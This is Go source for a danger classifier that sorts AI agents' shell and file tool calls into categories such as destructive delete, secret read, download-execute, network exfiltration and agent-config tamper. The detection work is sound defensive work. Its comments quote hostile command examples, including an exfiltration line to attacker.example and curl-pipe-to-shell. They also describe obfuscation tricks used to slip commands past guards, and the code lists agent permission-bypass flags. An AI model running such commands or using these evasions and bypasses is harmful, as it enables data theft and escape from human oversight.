// Package danger says which tool calls are dangerous, and why, as a list
// of categories named as in the battery (engine/battery). It decides on the
// parsed command (engine/shell: after wrapper stripping, through sudo/env,
// xargs and find -exec, and into literal bash -c / eval scripts), never on
// regular expressions over the raw line, and on the paths file tools name.
//
// It also reads through the usual disguises when their text is literal:
// $IFS for blanks and $(echo rm) for a name (the words are rewritten and the
// line parsed again), text piped into a shell or a database client through
// echo, printf, base64 -d, xxd -r -p or rev, commands run by ssh, npx, rtk
// and similar runners, cmd /c, sed's e command, and the one-line programs
// of interpreters (python -c, node -e, perl -e, ruby -e, php -r, awk):
// those are tokenized for the shell commands and file names they carry, not
// parsed as their language.
//
// Runners that take a whole command line as one word are read the same
// way: watch's command (run with sh -c), flock -c, GNU parallel's commands
// after :::, and eval of a downloaded text. Options are read with each
// command's own arity where it matters (curl's clustered short options,
// git's -b NAME, cargo yank --version V), and a command that only
// describes itself (--help, --version, a dry run) is not dangerous;
// interpreters and runners never count as describing themselves, since
// "bash -c '…' --help" runs the script.
//
// Temporary folders are scratch only when the path really is one: a
// project or home folder that lives under /tmp (CI checkouts, throwaway
// homes) keeps its protection.
//
// Forms that parse differently, decided deliberately (issue 17; see
// TestFormsThatParseDifferently):
//   - Upper-case verbs ("RM -rf ~", "Git push -f") are judged as the
//     lower-case command: on a case-insensitive file system, macOS's
//     default, the shell finds /bin/rm for RM.
//   - Unicode dashes ("git push —force", "rm –rf x") start no option: no
//     getopt-style parser reads them, so the program sees an operand (a
//     remote, a ref, a file name) and does not do what the ASCII option
//     would. Such words are not read as options.
//   - A leading operator ("; rm -rf ~", "&& git push -f", "| sh") makes
//     bash reject the whole line, so nothing runs; but an approval of the
//     line approves the text after the operator, which the next attempt
//     runs without it. The text after the operators is judged.
//   - A multi-line script with one broken line ("else if" without its
//     fi) is rejected whole by bash, for the same reason judged line by
//     line (issue 30: collections of attack techniques hold such scripts).
//
// Explain gives the reasons behind Check's categories: the simple command
// each finding was made on, its words after unquoting, and the script it
// sat in; `permsim danger explain` prints them.
//
// Programs no rule names (issue 30, verbs.go):
//
// On commands drawn from collections nobody here wrote, most of what the
// rules missed was the long tail of command-line tools: "qm destroy 100",
// "adb reboot", "pio pkg publish", "tye undeploy", each from a program no
// rule names. Adding an entry per tool does not hold on the next sample, so
// a program that no rule reads is judged by the verb in its subcommand
// positions: the first three words that are neither options nor option
// values ("CLI [GROUP…] VERB"), matched exactly, lower-case. A program a
// rule names but does not read in full ("docker service rm", git-extras'
// "git unpublish") is judged the same way when its rule found nothing,
// with a resource noun counted only before the verb (after it come the
// names: "docker rm backup") and, for git, only the subcommand. A verb that is
// a plain argument is not in such a position for the programs that take
// plain arguments (echo, grep, cat, editors, interpreters, task runners:
// see plainArguments), and a command that only reads or describes
// (a read-only word among its verbs, --help, a dry run) marks nothing.
//
// The verb table, and why (the labels of testdata/danger/independent
// decided the line between dangerous and everyday):
//
//   - reboot, shutdown, poweroff, power-off, halt, hibernate:
//     disk-system. Powering a machine, a VM or a device off or restarting
//     it stops everything on it; no everyday subcommand uses these words.
//     (restart, stop and kill are left out: "pueue restart", "limactl stop
//     demo", "eww kill" stop one task or local tool and are everyday.)
//   - destroy, undeploy, teardown, decommission, terminate:
//     cloud-destructive. They remove what the tool manages as a whole: a
//     VM, an application, a deployment, a stack.
//   - wipe, erase, factory-reset: disk-system. They erase a device's or
//     a volume's storage.
//   - publish, unpublish, yank, release: package-publish. What others
//     download next is whatever this sent, or is gone ("cargo release",
//     "pio pkg publish"). deploy and push are left out: "cf push app" and
//     "jj git push" deploy or push the user's own work and are everyday in
//     the labels, as git push without force is.
//   - upload: network-exfiltration. Local files go to another host
//     ("immich upload", "picgo upload"), the labels' rule for uploads.
//   - drop, dropdb, drop-database, drop-table: database-destructive.
//   - reset with --hard: git-discard-worktree (git wrappers such as yadm
//     and vcsh, dolt): uncommitted work is lost.
//   - delete, del, rm, remove, purge (and compounds such as
//     delete-snapshot, delsnapshot, remove-backup): only with the noun of
//     something that cannot be pulled again among the verbs or in the
//     compound — a snapshot or backup (destructive-delete: the restore
//     point is gone), a VM, instance, server, cluster, volume, bucket,
//     stack, deployment, app, domain, zone or project (cloud-destructive),
//     a database or table (database-destructive), a repository (force-push:
//     the remote history is gone), a release (package-publish: withdrawn),
//     a secret or credential (destructive-delete: irrecoverable). Alone,
//     these verbs mostly remove something local and cheap — "docker rm
//     web", "etcdctl del mykey", "fossil delete src", "conda remove" — and
//     the labels call that everyday. A removal verb that also deletes the
//     data ("multipass delete --purge demo", "virsh undefine
//     --remove-all-storage") is cloud-destructive.
//   - prune, forget, expire with a retention option (-keep…, --keep-…):
//     destructive-delete, whatever the tool ("duplicacy prune -keep 0:30",
//     "restic forget --keep-last 3"): the backups outside the policy go.
//   - --drop and --drop-OBJECT options (slot, database, table,
//     collection, …): database-destructive ("mongorestore --drop",
//     "pg_recvlogical --drop-slot").
//   - uninstall, kill, clean, flush, format, and prune alone are not
//     marked: uninstalling a package and cleaning caches are everyday and
//     reversible; "biome format" formats code; prune without a retention
//     policy is a cache's housekeeping for most tools.
//
// A verb counts only in its place: options named for a kind (--what,
// --mode, --type, --action, --signal, …) take the next word as their
// value ("systemd-inhibit --what shutdown"), and a removal whose object is
// metadata (a tag, lock, label, alias or membership) loses nothing.
//
// Families, not lines (issue 30, testdata/danger/independent/tuning.md):
// samples drawn from collections of attack techniques and cheat sheets
// showed that what the rules missed came in families each tool spells its
// own way, so each family is one mechanism over the words of any program:
// accounts and logins as someone else (accounts.go), security controls
// switched off and traces cleared (controls.go), credential stores read
// by file or by a client's verbs (credentials.go), writes that run
// nothing (comments.go), and uploads, reverse tunnels, login hooks, brute
// force and metadata credentials (collections.go); tools' own credential
// files, histories, and what names a secret file without showing it
// (keystores.go).
//
// The rules' files are named for what they decide, by category or by
// mechanism, never by the tuning round that wrote them: secrets printed by
// cloud CLIs (cloudsecrets.go), cloud access changed (cloudaccess.go),
// hosted resources lost (clouddestructive.go), clusters (cluster.go),
// secrets read on the host (secretreads.go), startup files and services
// (startupfiles.go), downloads run (downloads.go), uploads (uploads.go),
// the machine made unusable (systemdamage.go), git's history and hooks
// (githistory.go, githooks.go); and the readings many rules share: what
// the line itself made (madebyline.go), variables nothing sets
// (unsetvars.go), pipe readers and feeders (pipes.go), commands that only
// print, check or preview (printonly.go), runners (runners.go), loops
// (loops.go), tildes (tilde.go) and brace lists (braces.go).
//
// What it cannot see, it does not guess: commands built from variables,
// code that computes its commands, and what a script file or a make target
// does.
package danger

//go:generate go run ./corpusgen

import (
	"path"
	"slices"
	"strings"
	"sync"

	"github.com/permsim/permsim/engine"
	"github.com/permsim/permsim/engine/shell"
)

// The danger categories Check reports.
const (
	DestructiveDelete       = "destructive-delete"        // rm -rf of a tree outside scratch folders, of a critical path; find -delete; shred
	ForcePush               = "force-push"                // git push that can destroy remote history; deleting the remote repository
	GitHistoryRewrite       = "git-history-rewrite"       // reset --hard, rebase --onto past the branch's commits, filter-branch/-repo, reflog expire, branch -D, …
	GitDiscardWorktree      = "git-discard-worktree"      // checkout -f/--, restore, clean -f, reset --hard, stash drop/clear
	DownloadExecute         = "download-execute"          // curl | sh, sh -c "$(curl …)", npx pkg@version, go run mod@version, …
	SecretRead              = "secret-read"               // reads of secret files and folders, the environment, credential printers
	PersistenceStartupFiles = "persistence-startup-files" // writes to files other programs run later: shell startup, cron, services, CI, .envrc
	GitHooksConfig          = "git-hooks-config"          // .git/hooks, git config keys that name programs, ~/.gitconfig
	AgentConfigTamper       = "agent-config-tamper"       // agent settings and rules, guard bypasses, agents started unguarded
	NetworkExfiltration     = "network-exfiltration"      // uploads, secrets into network commands, pushes to new remotes
	PrivilegeEscalation     = "privilege-escalation"      // sudo/su/doas/pkexec, setuid, sudoers and passwd, privileged containers, root CAs
	PackagePublish          = "package-publish"           // publishing packages, images and releases, and withdrawing them
	CloudDestructive        = "cloud-destructive"         // deleting cloud resources and buckets, infrastructure destroy
	DatabaseDestructive     = "database-destructive"      // DROP/TRUNCATE/DELETE without WHERE, FLUSHALL, dropdb, framework db resets
	DiskSystem              = "disk-system"               // disks, power, services, firewall, every process, fork bombs, container volumes
)

// Categories lists every category Check can report, sorted.
var Categories = []string{
	AgentConfigTamper, CloudDestructive, DatabaseDestructive, DestructiveDelete, DiskSystem,
	DownloadExecute, ForcePush, GitDiscardWorktree, GitHistoryRewrite, GitHooksConfig,
	NetworkExfiltration, PackagePublish, PersistenceStartupFiles, PrivilegeEscalation, SecretRead,
}

// maxDepth bounds how deep Check follows bash -c inside bash -c and
// wrappers inside wrappers.
const maxDepth = 6

// Check returns the danger categories of a call, sorted and unique; empty
// means not dangerous. project and home are absolute; the call's Cwd (the
// project when empty) is where a shell command starts.
//
// For shell commands see the category constants; for file tools: reading
// (read, grep) or editing/writing a secret file is secret-read; editing or
// writing a file other programs run later is persistence-startup-files
// (git hooks and git config: git-hooks-config); editing or writing agent
// settings is agent-config-tamper; writing the files that grant root
// (sudoers, passwd, shadow) is privilege-escalation; writing a disk device
// or the kernel's control files is disk-system.
func Check(call engine.Call, project, home string) []string {
	c := checkers.Get().(*checker)
	c.run(call, project, home)
	out := make([]string, 0, len(c.set))
	for k := range c.set {
		out = append(out, k)
	}
	slices.Sort(out)
	c.reset()
	checkers.Put(c)
	return out
}

// checkers reuses Check's checkers: a checker (a command copy and the
// units of every command checked) was a seventh of replay's allocation on
// the 1M-call bench store, made and dropped for every distinct line
// (issue 15). Nothing Check returns points into one.
var checkers = sync.Pool{New: func() any { return new(checker) }}

// reset empties c for the next call, keeping its buffers (not a grown
// unit buffer: hostile lines may hold thousands of commands).
func (c *checker) reset() {
	clear(c.set)
	clear(c.reasons)
	clear(c.scripts)
	clear(c.units)
	c.reasons, c.scripts, c.units = c.reasons[:0], c.scripts[:0], c.units[:0]
	c.leading, c.plain = [2]wordsCache{}, wordsCache{}
	if cap(c.units) > 256 {
		c.units = nil
	}
	c.project, c.home, c.cur, c.curCmd, c.line, c.at, c.lineCwd = "", "", nil, shell.Command{}, nil, 0, ""
}

// check runs the checks of Check and returns the checker with its
// findings and their reasons.
func check(call engine.Call, project, home string) *checker {
	c := new(checker)
	c.run(call, project, home)
	return c
}

// run runs the checks of Check on an empty checker.
func (c *checker) run(call engine.Call, project, home string) {
	cwd := call.Cwd
	if cwd == "" {
		cwd = project
	}
	c.project, c.home, c.scripts = path.Clean(project), home, append(c.scripts[:0], call.Command)
	cwd = shell.Resolve(cwd, c.project, home)
	switch call.Tool {
	case engine.ToolBash:
		s := shell.Parse(call.Command)
		if rest, ok := leadingOperator(call.Command); ok && s.Unparseable {
			s = shell.Parse(rest)
		}
		if mended, ok := closeHeredoc(call.Command, s.Err); ok && s.Unparseable {
			if m := shell.Parse(mended); !m.Unparseable {
				s = m // bash reads the rest of the text as the body
			}
		}
		c.script(s, cwd, 0, false)
		if alt, ok := escapedHeredoc(call.Command); ok {
			c.script(shell.Parse(alt), cwd, 1, false) // the text with its \n read as newlines
		}
		if s.Unparseable && !s.TooLong && strings.Contains(call.Command, "\n") {
			c.brokenLines(call.Command, cwd)
		}
	case engine.ToolRead, engine.ToolGrep:
		for _, p := range callPaths(call, cwd, home) {
			c.because(p)
			if SecretFile(p) {
				c.add(SecretRead)
			}
		}
	case engine.ToolEdit, engine.ToolWrite:
		for _, p := range callPaths(call, cwd, home) {
			c.because(p)
			if SecretFile(p) {
				c.add(SecretRead) // editing shows the secret to the model; overwriting loses it
			}
			c.add(writeCategories(p, false)...)
			if call.Tool == engine.ToolEdit && editsSystemFile(p) { // round 11
				c.add(DiskSystem)
			}
		}
	}
}

// brokenLines judges a multi-line script bash rejects ("else if" without
// its fi, a missing done) one line at a time: bash runs none of it, but
// approving the script approves the commands in it, which the next,
// mended attempt runs (as with a leading operator, see the package doc).
// Lines that do not parse on their own (then, fi, a loop's head) are
// left out.
func (c *checker) brokenLines(text, cwd string) {
	for _, l := range strings.Split(text, "\n") {
		if strings.TrimSpace(l) == "" {
			continue
		}
		if s := shell.Parse(l); !s.Unparseable {
			c.script(s, cwd, 1, false)
		}
	}
}

// inputPathKeys are the argument names file tools put their path in.
var inputPathKeys = []string{"file_path", "path", "notebook_path", "filePath", "absolute_path", "filename"}

// callPaths returns the absolute paths a file tool call names: Paths, or
// failing that the tool's own path argument.
func callPaths(call engine.Call, cwd, home string) []string {
	ps := call.Paths
	if len(ps) == 0 {
		for _, k := range inputPathKeys {
			if s, ok := call.Input[k].(string); ok && s != "" {
				ps = append(ps, s)
				break
			}
		}
	}
	out := make([]string, 0, len(ps))
	for _, p := range ps {
		out = append(out, shell.Resolve(p, cwd, home))
	}
	return out
}

type checker struct {
	project, home string
	set           map[string]bool
	// For Explain: the command being checked (nil while a rule looks at
	// a whole line), the scripts it sits in, outermost first, and what
	// was found where.
	cur     *shell.Command
	curCmd  shell.Command // what cur points to: a copy, so the unit checked stays on the stack
	scripts []string
	reasons []Reason
	// units backs the units expand returns (each a full slice of its own
	// part, so later appends leave it alone).
	units []unit
	// leading caches the leading words of one argument list, without
	// and with stopAtOption (see leadingWords); reset with the checker,
	// so it holds no call's words after it.
	leading [2]wordsCache
	plain   wordsCache // plainWords, the same way
	// For Explain only: whether to name the rule of each finding, and the
	// words the next findings matched (see because).
	explaining bool
	matched    []string
	// adds counts findings, so a command's later checks can tell whether
	// the rules before them found anything (unknownVerbs).
	adds int
	// line and at are the script the command being checked sits in and
	// its index there, for rules that read the rest of its pipeline;
	// lineCwd is the folder line runs in (dirOf gives each of its
	// commands' own).
	line    *shell.Script
	at      int
	lineCwd string
}

// dirOf is the folder cmd, a command of a script that runs in cwd, runs
// in: the folder an earlier cd of the script moved to (cmd.Cwd, which may
// be relative to cwd), else cwd.
func (c *checker) dirOf(cmd *shell.Command, cwd string) string {
	if cmd.Cwd == "" {
		return cwd
	}
	return shell.Resolve(cmd.Cwd, cwd, c.home)
}

// earlier returns the commands of the checked line that run before the one
// being checked (none outside a line), for the rules that ask what an
// earlier command made, wrote or fed: every such scan shares these bounds.
func (c *checker) earlier() []shell.Command {
	if c.line == nil {
		return nil
	}
	return c.line.Commands[:min(max(c.at, 0), len(c.line.Commands))]
}

func (c *checker) add(cats ...string) {
	for _, k := range cats {
		if c.set == nil {
			c.set = map[string]bool{} // most calls find nothing
		}
		c.set[k] = true
		c.adds++
		if !c.explaining {
			continue // Check: the set is all it needs
		}
		r := Reason{Category: k, Script: c.scripts[len(c.scripts)-1], Depth: len(c.scripts) - 1}
		if c.cur != nil {
			r.Command = c.cur.Text
			r.Argv = argv(c.cur)
			r.Wrappers = c.cur.Wrappers
		}
		r.Rule = c.ruleOf()
		r.RuleText = ruleTexts[r.Rule]
		r.Matched = c.matched
		if r.Matched == nil {
			r.Matched = defaultMatched(c.cur)
		}
		if !slices.ContainsFunc(c.reasons, func(o Reason) bool {
			return o.Category == r.Category && o.Command == r.Command && o.Script == r.Script
		}) {
			c.reasons = append(c.reasons, r)
		}
	}
}

// unit is one command as danger looks at it: the command, where it runs,
// whether xargs (or find -exec) feeds it its arguments, and how many
// scripts deep it sits (bash -c inside bash -c, a rewritten line, …).
type unit struct {
	cmd       shell.Command
	dir       string
	fromXargs bool
	// regenerated: a find that selects only regenerated files by name
	// (findsRegenerated), or only under scratch and temporary folders
	// (findsInScratch), hands this command its matches as {}.
	regenerated bool
	depth       int
	// appended: an xargs appends its input to this command's words (it
	// runs the command, directly or through wrappers that pass their
	// words on), as opposed to handing it to a script as "$@".
	appended bool
}

// program returns u's command and the base name of the program it runs
// when that is a fixed program (not built at run time, not empty): what
// most checkers look at first.
func (u *unit) program() (cmd *shell.Command, name string, ok bool) {
	cmd = &u.cmd
	if cmd.Dynamic || cmd.Name == "" {
		return nil, "", false
	}
	return cmd, path.Base(cmd.Name), true
}

// expand returns the command and what its unstripped wrappers run, with
// the folder each runs in; start is the folder the line starts in.
func (c *checker) expand(cmd shell.Command, dir, start string, depth int, fed bool) []unit {
	first := len(c.units)
	var walk func(u unit, depth int)
	walk = func(u unit, depth int) {
		c.units = append(c.units, u)
		if depth >= maxDepth || findFails(&u.cmd, u.appended) || c.targetsUnset(u) {
			return // a find that fails runs none of its -exec commands
		}
		for _, in := range u.cmd.Inside() {
			d := u.dir
			if in.Cwd != u.cmd.Cwd && in.Cwd != "" {
				d = shell.Resolve(in.Cwd, start, c.home)
			}
			fromX := u.fromXargs || path.Base(u.cmd.Name) == "xargs" && xargsFeeds(&u.cmd, &in) || path.Base(u.cmd.Name) == "find"
			regen := path.Base(u.cmd.Name) == "find" && (findsRegenerated(&u.cmd) || c.findsInScratch(u))
			walk(unit{cmd: in, dir: d, fromXargs: fromX, regenerated: regen, depth: u.depth, appended: appendsTo(&u)}, depth+1)
		}
	}
	walk(unit{cmd: cmd, dir: dir, fromXargs: fed || slices.Contains(cmd.Wrappers, "xargs"), depth: depth,
		appended: slices.Contains(cmd.Wrappers, "xargs")}, 0)
	return c.units[first:len(c.units):len(c.units)]
}

// script checks every command of s, then what spans several commands.
// fed says xargs or find -exec hands the script its arguments ("$@").
func (c *checker) script(s *shell.Script, cwd string, depth int, fed bool) {
	if depth > 0 {
		c.scripts = append(c.scripts, s.Source)
		defer func() { c.scripts = c.scripts[:len(c.scripts)-1] }()
	}
	units := make([][]unit, len(s.Commands))
	uncalled := uncalledFunctions(s)
	for i, cmd := range s.Commands {
		if cmd.InFunc != "" && uncalled[cmd.InFunc] {
			continue // the body of a function the line never calls
		}
		if cmd.NeverRuns {
			continue // right of "true ||" or "false &&"
		}
		units[i] = c.expand(cmd, c.dirOf(&cmd, cwd), cwd, depth, fed)
		for _, u := range units[i] {
			c.line, c.at, c.lineCwd = s, i, cwd
			c.command(u)
			if depth < maxDepth {
				if in := u.cmd.Inner(); in != nil {
					c.script(in, u.dir, depth+1, u.fromXargs)
				}
				for _, text := range runnerScripts(&u.cmd) {
					c.script(shell.Parse(text), u.dir, depth+1, false)
				}
				for _, text := range commandRunners(&u.cmd) {
					c.script(shell.Parse(text), u.dir, depth+1, false)
				}
				if lang, code, ok := frameworkCode(&u.cmd); ok {
					c.code(lang, code, u.dir, depth+1)
				}
				if text, ok := otherShellScript(&u.cmd); ok {
					c.script(shell.Parse(text), u.dir, depth+1, false)
				}
				if text, ok := variableProgram(&u.cmd, s); ok {
					c.script(shell.Parse(text), u.dir, depth+1, false)
				}
				if text, ok := setVariableProgram(&u.cmd, s); ok {
					c.script(shell.Parse(text), u.dir, depth+1, false)
				}
			}
		}
	}
	c.cur = nil // what follows looks at the whole line
	c.pipelines(s, units)
	c.findFedRemoval(s, units)
	c.redisKeysDeleted(s, units)
	c.foundSecretsRead(units)
	c.downloadThenRun(s, units)
	c.fetchedThenRun(units)
	c.pipedFileSent(s, units)
	c.readLoopSent(units)
	c.writtenThenRun(units, depth)
	c.shellOverNetwork(s, units)
	c.namesOnStdin(s, units)
	c.printsSecretVars(s, units)
	c.remotePush(units)
	if depth < maxDepth {
		c.literalPipes(s, cwd, depth)
		c.forkBomb(s)
		if alt, ok := rewriteLine(s); ok {
			c.script(shell.Parse(alt), cwd, depth+1, fed)
		}
		for _, body := range loopBodies(s) {
			c.script(shell.Parse(body), cwd, depth+1, fed)
		}
		for _, body := range c.readLoopBodies(s, cwd) {
			c.script(shell.Parse(body), cwd, depth+1, fed)
		}
	}
}

// command checks one command on its own.
func (c *checker) command(u unit) {
	psOnly := c.powerShellOnly(u.cmd) // before the name is lowered: "Get-Content", not "get-content"
	if low, ok := lowerName(u.cmd); ok {
		u.cmd = low
	}
	cmd := &u.cmd
	// A copy: pointing cur at u.cmd put every unit checked on the heap
	// (3% of replay's allocation, issue 15). A command checked inside this
	// one (hidden.go, interp.go) overwrites it and leaves cur nil, as it
	// did before.
	c.curCmd = *cmd
	c.cur = &c.curCmd
	c.matched = nil
	defer func() { c.cur, c.matched = nil, nil }()
	for _, a := range cmd.Assigns {
		if bypassVariable(a.Name) {
			c.add(AgentConfigTamper)
		}
	}
	c.fileUses(u)
	if !cmd.Dynamic && cmd.Name == "" {
		c.systemWrites(u) // "> /etc/hosts": a bare redirect empties the file
		c.bareRedirectCleared(u)
	}
	if cmd.Dynamic || cmd.Name == "" || inert(cmd) || path.Dir(cmd.Name) == "/etc" || findFails(cmd, u.appended) || c.targetsUnset(u) ||
		c.settingsEntryRemoved(path.Base(cmd.Name), cmd.Args) || psOnly || sysctlDropsCaches(cmd) ||
		notAProgram(cmd.Name) {
		// "/etc/crontab" typed as a command: a configuration file, whose
		// name is no program (running it fails).
		return
	}
	before := c.adds
	name := path.Base(cmd.Name)
	for _, rule := range firstTable.rules(name) {
		rule(c, u)
	}
	switch name {
	case "rm":
		if t, ok := c.rmDangerous(u); ok {
			c.because(t...)
			c.add(DestructiveDelete)
		}
	case "mv":
		// "mv data.db /dev/null": the file is gone (and /dev/null with it).
		if ops := operands(cmd.Args); len(ops) >= 2 && ops[len(ops)-1].Lit == "/dev/null" && !c.mvRefused(ops[:len(ops)-1], u.dir) {
			c.add(DestructiveDelete)
		}
	case "shred":
		if !c.scratchOnly(u) {
			c.add(DestructiveDelete)
		}
	case "find":
		// "-type d -empty": empty folders hold nothing to lose; an empty
		// file is content by being there (__init__.py, .gitkeep, a lock).
		if findDeletes(cmd) && !emptyFoldersOnly(cmd) && !c.findRoutine(u) && !findsRegenerated(cmd) && !c.findsOneName(u) {
			c.add(DestructiveDelete)
		}
	case "truncate":
		c.truncate(u)
	case "git":
		c.git(u)
	case "curl", "wget":
		if !onlyLocal(cmd.Args) {
			c.upload(u, name)
		}
		if downloadsScript(cmd, name) {
			c.add(DownloadExecute)
		}
	case "go":
		if goRunsRemote(cmd.Args) {
			c.add(DownloadExecute)
		}
	case "at", "batch":
		if !hasLit(cmd.Args, "-l", "-r", "-d", "-c") {
			c.add(PersistenceStartupFiles) // a job that runs later
		}

	case "nc", "ncat", "netcat", "socat", "telnet":
		for _, r := range cmd.Redirects {
			if r.Read && !ncListens(name, cmd.Args) {
				c.add(NetworkExfiltration)
			}
		}
	case "openssl":
		// "openssl s_client -connect h:443 < FILE": the file goes to the host.
		for _, r := range cmd.Redirects {
			if p, ok := shell.PathOf(r.Target); ok && r.Read && p != "/dev/null" && firstVerbIn(cmd.Args, "s_client") {
				c.add(NetworkExfiltration)
			}
		}
	case "ssh":
		// "ssh host 'cat > k' < ~/.ssh/id_rsa": the key goes to the host.
		for _, r := range cmd.Redirects {
			if p, ok := shell.PathOf(r.Target); ok && r.Read && SecretFile(shell.Resolve(p, u.dir, c.home)) {
				c.add(NetworkExfiltration)
			}
		}
	case "scp", "rsync", "sftp":
		c.copyOut(u)
		if name == "rsync" {
			c.rsyncDelete(u)
		}
	case "gh":
		c.gh(u)
	case "env", "printenv":
		if printsEnvironment(cmd) && !c.valuesStripped() {
			c.add(SecretRead)
		}
	case "grep", "egrep", "fgrep", "rg", "ag":
		if searchesForSecrets(cmd.Args) && searchesTree(name, cmd.Args) && searchReachesSecrets(name, cmd.Args) {
			c.add(SecretRead)
		}
	case "crontab":
		if !hasLit(cmd.Args, "-l", "-T") && !c.filtersOwnCrontab() {
			c.add(PersistenceStartupFiles)
		}
	case "launchctl":
		if firstVerbIn(cmd.Args, "load", "bootstrap", "enable", "submit") {
			c.add(PersistenceStartupFiles)
		}
	case "systemctl":
		if firstVerbIn(cmd.Args, "enable", "reenable", "link", "preset", "add-wants", "add-requires", "edit") {
			c.add(PersistenceStartupFiles)
		}
	case "npx", "pnpx", "bunx", "uvx":
		if fetchesPackage(cmd.Args) {
			c.add(DownloadExecute)
		}
	case "pnpm", "yarn":
		if len(cmd.Args) > 1 && cmd.Args[0].Lit == "dlx" && fetchesPackage(cmd.Args[1:]) {
			c.add(DownloadExecute)
		}
	case "pipx":
		if len(cmd.Args) > 0 && cmd.Args[0].Lit == "run" {
			c.add(DownloadExecute)
		}
	case "pip", "pip3", "python", "python3":
		if pipInstallsURL(name, cmd.Args) {
			c.add(DownloadExecute)
		}
	case "dcg":
		// destructive_command_guard's own allowlist is a guard's rule file.
		if firstVerbIn(cmd.Args, "allowlist") && hasLit(cmd.Args, "add") {
			c.add(AgentConfigTamper)
		}
	case "claude", "codex", "gemini":
		if startsUnguardedAgent(name, cmd.Args) {
			c.add(AgentConfigTamper)
		}
	}
	if interpreters[name] || name == "source" || name == "." {
		// "bash <(curl …)", "sh -c \"$(curl …)\"": the script is fetched
		// inside the command's own words.
		for _, a := range cmd.Args {
			if !a.Literal && wordDownloads(a) {
				c.add(DownloadExecute)
			}
		}
	}
	if credentialPrinter(cmd) && !c.tokenOnlyAuthorizes(u) && !c.pipedIntoLogin(u) && !c.secretOutputDiscarded(cmd) && !c.secretHandedToProgram(u) {
		c.add(SecretRead)
	}
	for _, rule := range commandTable.rules(name) {
		rule(c, u)
	}
	if c.adds == before {
		c.unknownVerbs(u)
	}
	if c.adds == before {
		c.hostedRemoval(u)
	}
	if shell.NeedsNetwork(cmd) {
		// "dig $(cat .env | base64).attacker.example": a network command
		// whose words carry a secret.
		for k, a := range cmd.Args {
			if !a.Literal && (wordReadsSecret(a, u.dir, c.home) && !ownServiceToken(cmd, k, c.lineAssigns()) || urlCarriesSecret(a)) {
				c.add(NetworkExfiltration)
			}
		}
	}
}

// fileUses judges the files a command reads and writes as engine/shell's
// Files finds them: its redirects and the operands of cat, cp, tee, sed,
// tar, …
func (c *checker) fileUses(u unit) {
	for _, f := range u.cmd.Files() {
		p := shell.Resolve(f.Path, u.dir, c.home)
		c.because(f.Path)
		if f.Read && (SecretFile(p) || secretFolder(p, c.home) || c.globInSecrets(p)) && !loadsDotenv(f.Via, p) && !dotenvCopy(u.cmd.Files()) && !showsNothingOf(&u.cmd, f.Via) && !c.historyKeptPrivate(p) &&
			!(grepPatternFile(&u.cmd, f.Path) && !grepSearches(&u.cmd, f.Path)) && !c.readIntoAssignments(u) && !pathTildeQuoted(&u.cmd, f.Path) && !(f.Via == "redirect" && assigningReaders[path.Base(u.cmd.Name)]) &&
			!(f.Via == "sed" && keyValueFile(p) && namesOnlySed(&u.cmd, true)) {
			c.add(SecretRead)
		}
		unlinksNode := (f.Via == "rm" || f.Via == "unlink" || f.Via == "rmdir") && strings.HasPrefix(p, "/dev/")
		if f.Write && !unlinksNode && (isDelete(f.Via) || !writesOnlyComments(&u.cmd)) {
			// A device node removed ("rm /dev/sdb1") leaves the disk as it
			// was; shredding one writes it.
			cats := landedCategories(&u.cmd, f, p, isDelete(f.Via))
			if metadataOnly(f.Via) && DeviceOrKernel(p) || harmlessKernelWrite(&u.cmd, p) {
				// A node's owner or mode, or a kernel told to print or
				// drop caches, leaves the disk and the machine as they were.
				cats = slices.DeleteFunc(cats, func(k string) bool { return k == DiskSystem })
			}
			if sedDeletesOnly(&u.cmd) || modeOnlyChange(&u.cmd, f.Via) || c.rcModeOnly(&u.cmd, f.Via, p) {
				// Lines taken out of a startup file, or its mode tightened or
				// its times touched: nothing new runs.
				cats = slices.DeleteFunc(cats, func(k string) bool { return k == PersistenceStartupFiles })
			}
			c.add(cats...)
			if isDelete(f.Via) && c.projectDatabaseFile(p) {
				c.add(DatabaseDestructive) // round 9b: the app's SQLite file
			}
			if agentHomeInstructions(p, c.home) || isDelete(f.Via) && c.agentFolderDeleted(&u.cmd, f.Via, p) {
				c.add(AgentConfigTamper)
			}
		}
	}
	c.because()
}

func isDelete(via string) bool {
	switch via {
	case "rm", "rmdir", "unlink", "shred", "find -delete", "find -exec":
		return true
	}
	return false
}

func hasLit(words []shell.Word, lits ...string) bool {
	for _, w := range words {
		if w.Literal && slices.Contains(lits, w.Lit) {
			return true
		}
	}
	return false
}

// firstVerbIn reports whether the first word that is not an option is one
// of verbs.
func firstVerbIn(words []shell.Word, verbs ...string) bool {
	for _, w := range words {
		if !w.Literal {
			return false
		}
		if strings.HasPrefix(w.Lit, "-") {
			continue
		}
		return slices.Contains(verbs, w.Lit)
	}
	return false
}

// bypassVariable reports whether an assignment turns off a command guard
// (cc-safety-net's SAFETY_NET_ALLOW, or any *BYPASS* switch).
func bypassVariable(name string) bool {
	n := strings.ToUpper(name)
	return n == "SAFETY_NET_ALLOW" || n == "SAFETY_NET_DISABLE" || strings.Contains(n, "BYPASS")
}

// startsUnguardedAgent reports whether an agent is started with its
// permission checks off.
func startsUnguardedAgent(name string, args []shell.Word) bool {
	for i, a := range args {
		if !a.Literal {
			continue
		}
		switch name {
		case "claude":
			if a.Lit == "--dangerously-skip-permissions" || a.Lit == "--permission-mode=bypassPermissions" ||
				a.Lit == "--permission-mode" && i+1 < len(args) && args[i+1].Lit == "bypassPermissions" {
				return true
			}
		case "codex":
			if a.Lit == "--dangerously-bypass-approvals-and-sandbox" || a.Lit == "--yolo" {
				return true
			}
		case "gemini":
			if a.Lit == "--yolo" || a.Lit == "-y" || a.Lit == "--approval-mode=yolo" ||
				a.Lit == "--approval-mode" && i+1 < len(args) && args[i+1].Lit == "yolo" {
				return true
			}
		}
	}
	return false
}
